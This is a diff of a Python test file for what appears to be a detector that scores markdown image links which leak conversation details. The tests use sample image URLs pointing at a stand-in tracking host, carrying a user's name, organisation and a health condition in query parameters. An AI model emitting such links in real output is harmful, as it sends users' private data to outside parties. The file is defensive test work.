@@ -85,8 +85,8 @@ def test_an_id_shaped_secret_needs_the_conversation() -> None:
 def test_a_single_word_on_an_image_needs_the_conversation() -> None:
     text = "![x](https://px.beaconry.test/p.gif?tag=celiac&who=priya&org=northwind)"
     assert _worst(text) == Severity.MEDIUM
-    assert _worst(text, CONTEXT) == Severity.MEDIUM  # three words of the conversation: a topic, not a record
-    named = "![x](https://px.beaconry.test/p.gif?who=priya+raman&org=northwind&tag=celiac)"
+    assert _worst(text, CONTEXT) == Severity.MEDIUM  # two of the user's words: a topic, not a record
+    named = "![x](https://px.beaconry.test/p.gif?who=priya+raman&tag=celiac-disease)"
     assert _worst(named) == Severity.MEDIUM
     assert _worst(named, CONTEXT) == Severity.CRITICAL
 
